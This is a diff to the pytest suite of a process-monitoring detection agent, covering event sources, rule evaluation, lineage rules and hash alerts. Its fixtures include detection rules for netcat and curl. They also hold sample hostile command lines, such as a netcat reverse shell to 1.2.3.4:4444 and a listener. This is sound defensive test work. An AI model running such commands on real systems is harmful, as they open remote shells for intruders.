@@ -1,7 +1,8 @@
 import pytest
-from unittest.mock import patch, Mock
+from unittest.mock import patch, Mock, MagicMock
 import psutil
-from agent import process_monitor, alerter, rule_engine
+from agent import process_monitor, alerter, rule_engine, proc_events
+from agent.proc_cache import ProcInfo
 
 def test_is_suspicious_path():
     assert process_monitor.is_suspicious_path("/tmp/test") is True
@@ -10,7 +11,7 @@ def test_is_suspicious_path():
 
 @patch("psutil.Process")
 def test_get_process_info_success(mock_process):
-    mock_proc = Mock()
+    mock_proc = MagicMock()
     mock_proc.pid = 123
     mock_proc.ppid.return_value = 456
     mock_proc.exe.return_value = "/bin/bash"
@@ -33,21 +34,160 @@ def test_get_process_info_access_denied(mock_process):
     info = process_monitor.get_process_info(Mock(pid=123))
     assert info is None
 
-@patch("psutil.pids")
+@pytest.fixture
+def ruleset(monkeypatch):
+    def install(rules):
+        monkeypatch.setattr("agent.rule_engine.RULESET", rule_engine.Ruleset(rules))
+        monkeypatch.setattr("agent.rule_engine.GENERATION", rule_engine.GENERATION + 1)
+    install({
+        "suspicious_processes": ["nc", "python"],
+        "suspicious_parents": ["bash", "nginx"],
+        "cmdline_keywords": ["nc -e"],
+        "regex": ["curl.*evil"]
+    })
+    return install
+
+class FakeSource:
+    def __init__(self, *batches):
+        self.batches = list(batches)
+        self.timeouts = []
+
+    def poll(self, timeout=0.0):
+        self.timeouts.append(timeout)
+        return self.batches.pop(0) if self.batches else []
+
+    def close(self):
+        pass
+
 @patch("psutil.Process")
 @patch("agent.process_monitor.alerter.alert")
-def test_monitor_processes_suspicious(mock_alert, mock_process, mock_pids):
-    mock_proc = Mock()
+def test_monitor_processes_suspicious(mock_alert, mock_process, monkeypatch, ruleset):
+    mock_proc = MagicMock()
     mock_proc.pid = 123
     mock_proc.ppid.return_value = 456
     mock_proc.exe.return_value = "/tmp/malware"
     mock_proc.cmdline.return_value = ["malware"]
     mock_proc.parent.return_value = Mock()
     mock_proc.parent.return_value.name.return_value = "bash"
-    mock_pids.return_value = [123]
     mock_process.return_value = mock_proc
-    with patch("agent.process_monitor.known_pids", set()):
-        with patch("agent.rule_engine.is_suspicious_parent", return_value=True):
-            with patch("agent.rule_engine.check_cmdline_keywords", return_value=True):
-                process_monitor.monitor_processes()
-                mock_alert.assert_called()
+    source = FakeSource([proc_events.ProcEvent("exec", 123, None, 0.0, None)])
+    monkeypatch.setattr("agent.process_monitor.SOURCE", source)
+    process_monitor.monitor_processes()
+    mock_alert.assert_called()
+    assert "/tmp/malware" in mock_alert.call_args[0][0]
+
+@patch("agent.process_monitor.alerter.alert")
+def test_monitor_processes_uses_event_info(mock_alert, monkeypatch, ruleset):
+    info = ProcInfo(321, 1, 0.0, "nc", "/dev/shm/nc", "nc -e /bin/sh 1.2.3.4 4444", "bash")
+    source = FakeSource([
+        proc_events.ProcEvent("fork", 321, 1, 0.0, None),
+        proc_events.ProcEvent("exec", 321, None, 0.0, info),
+    ])
+    monkeypatch.setattr("agent.process_monitor.SOURCE", source)
+    with patch("psutil.Process") as mock_process:
+        process_monitor.monitor_processes(timeout=3)
+        mock_process.assert_not_called()
+    assert source.timeouts == [3]
+    messages = [c[0][0] for c in mock_alert.call_args_list]
+    assert len(messages) == 3
+    assert "подозрительного пути" in messages[0]
+    assert "`nc` запущен из `bash`" in messages[1]
+    assert "`nc -e`" in messages[2]
+
+@patch("agent.process_monitor.proc_cache.invalidate")
+def test_monitor_processes_exit_invalidates_cache(mock_invalidate, monkeypatch):
+    monkeypatch.setattr("agent.process_monitor.SOURCE", FakeSource([proc_events.ProcEvent("exit", 55, None, 0.0, None)]))
+    process_monitor.monitor_processes()
+    mock_invalidate.assert_called_once_with(55)
+
+@patch("agent.process_monitor.alerter.alert")
+def test_monitor_processes_skips_vanished_process(mock_alert, monkeypatch):
+    monkeypatch.setattr("agent.process_monitor.SOURCE", FakeSource([proc_events.ProcEvent("exec", 77, None, 0.0, None)]))
+    with patch("psutil.Process", side_effect=psutil.NoSuchProcess(77)):
+        process_monitor.monitor_processes()
+    mock_alert.assert_not_called()
+
+def test_init_falls_back_to_polling(monkeypatch):
+    monkeypatch.setattr("agent.process_monitor.SOURCE", None)
+    with patch("agent.proc_events.NetlinkSource", side_effect=PermissionError("EPERM")):
+        with patch("agent.process_monitor.alerter.alert") as mock_alert:
+            process_monitor.init({"process_events": "netlink"})
+            mock_alert.assert_called_once()
+    assert isinstance(process_monitor.SOURCE, proc_events.PollingSource)
+
+def test_monitor_processes_falls_back_when_netlink_fails(monkeypatch):
+    source = FakeSource()
+    source.failed = OSError("EBADF")
+    source.known = {1, 2}
+    monkeypatch.setattr("agent.process_monitor.SOURCE", source)
+    with patch("agent.process_monitor.alerter.alert") as mock_alert:
+        process_monitor.monitor_processes(0.5)
+        mock_alert.assert_called_once()
+    assert isinstance(process_monitor.SOURCE, proc_events.PollingSource)
+    assert process_monitor.SOURCE.known == {1, 2}
+    with patch("psutil.pids", return_value=[1, 2, 3]):
+        assert [(e.kind, e.pid) for e in process_monitor.SOURCE.poll()] == [("exec", 3)]
+
+def make_info(cmdline, exe="/usr/bin/true", parent="bash"):
+    return {"pid": 1, "ppid": 0, "exe": exe, "cmdline": cmdline, "parent_name": parent}
+
+def test_evaluate_structured_verdict(ruleset):
+    verdict = process_monitor.evaluate(make_info("curl http://evil.example", exe="/usr/bin/curl"))
+    assert [(m.rule, m.rule_id) for m in verdict] == [("regex", "curl.*evil")]
+    assert process_monitor.evaluate(make_info("python3 -c 1", exe="/usr/bin/python3")) == ()
+
+def test_evaluate_no_substring_false_positives(ruleset):
+    assert process_monitor.evaluate(make_info("sync", exe="/usr/bin/sync")) == ()
+    assert process_monitor.evaluate(make_info("func -e x", exe="/usr/bin/func")) == ()
+    verdict = process_monitor.evaluate(make_info("nc -lvp 4444", exe="/usr/bin/nc", parent="nginx"))
+    assert [m.rule for m in verdict] == ["suspicious_parent"]
+
+def test_evaluate_memoizes_verdicts(ruleset, monkeypatch):
+    calls = []
+    real = rule_engine.evaluate_process
+    monkeypatch.setattr("agent.rule_engine.evaluate_process", lambda *a: calls.append(a) or real(*a))
+    for pid in range(50):
+        info = make_info("/usr/bin/run-parts /etc/cron.hourly", exe="/usr/bin/run-parts")
+        info["pid"] = pid
+        process_monitor.evaluate(info)
+    assert len(calls) == 1
+    ruleset({"cmdline_keywords": ["run-parts"]})
+    verdict = process_monitor.evaluate(make_info("/usr/bin/run-parts /etc/cron.hourly", exe="/usr/bin/run-parts"))
+    assert len(calls) == 2
+    assert verdict[0].rule == "cmdline_keyword"
+
+def test_verdict_cache_is_bounded(ruleset, monkeypatch):
+    monkeypatch.setattr("agent.process_monitor.VERDICT_CACHE_SIZE", 10)
+    for i in range(100):
+        process_monitor.evaluate(make_info(f"job {i}"))
+    assert len(process_monitor.verdict_cache) == 10
+
+@patch("agent.process_monitor.alerter.alert")
+def test_lineage_rule_uses_process_tree(mock_alert, monkeypatch, ruleset):
+    from agent.proc_tree import ProcessTree
+    monkeypatch.setattr("agent.process_monitor.TREE", ProcessTree())
+    ruleset({"lineage_rules": [{"id": "web-shell", "chain": ["nginx", "...", "nc"]}]})
+    nginx = ProcInfo(10, 1, 1.0, "nginx", "/usr/sbin/nginx", "nginx", "systemd")
+    sh = ProcInfo(20, 10, 2.0, "sh", "/bin/sh", "sh -c x", "nginx")
+    nc = ProcInfo(30, 20, 3.0, "nc", "/bin/nc", "nc 1.2.3.4 80", "sh")
+    source = FakeSource([proc_events.ProcEvent("exec", p.pid, p.ppid, 0.0, p) for p in (nginx, sh, nc)],
+                        [proc_events.ProcEvent("exit", 10, None, 0.0, None),
+                         proc_events.ProcEvent("exit", 20, None, 0.0, None),
+                         proc_events.ProcEvent("exit", 30, None, 0.0, None)])
+    monkeypatch.setattr("agent.process_monitor.SOURCE", source)
+    process_monitor.monitor_processes()
+    assert mock_alert.call_count == 1
+    assert "`nginx → ... → nc`" in mock_alert.call_args[0][0]
+    assert mock_alert.call_args[1]["rule"] == "lineage"
+    process_monitor.monitor_processes()
+    assert len(process_monitor.TREE) == 0
+
+@patch("agent.process_monitor.alerter.alert")
+def test_known_bad_hash_alert(mock_alert, monkeypatch, ruleset):
+    monkeypatch.setattr("agent.exe_hash.lookup", lambda pid, exe: "ab" * 32 if exe == "/usr/bin/evil" else None)
+    process_monitor.check_process(make_info("evil --run", exe="/usr/bin/evil"))
+    assert mock_alert.call_args[1]["rule"] == "known_bad_hash"
+    assert "ab" * 32 in mock_alert.call_args[0][0]
+    mock_alert.reset_mock()
+    process_monitor.check_process(make_info("true", exe="/usr/bin/true"))
+    mock_alert.assert_not_called()